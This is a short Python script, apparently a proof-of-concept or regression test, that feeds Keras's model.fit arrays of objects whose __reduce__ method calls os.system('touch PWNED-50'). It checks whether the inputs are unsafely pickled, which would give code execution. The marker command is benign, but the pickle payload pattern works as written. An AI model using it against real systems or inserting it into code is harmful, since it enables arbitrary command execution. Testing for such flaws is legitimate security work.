import keras
import numpy as np

x = np.array([[1.0], [2.0], [3.0]])

import os


class Evil:
    def __reduce__(self):
        return (os.system, ("touch PWNED-50",))


model = keras.Sequential([keras.Input((1,)), keras.layers.Dense(1)])
model.compile(loss="mse", optimizer="sgd")

objects = np.array([Evil(), Evil(), Evil()], dtype=object)
model.fit(objects, objects)
model.fit(np.array([["a"], ["b"]]), np.array([Evil()]))
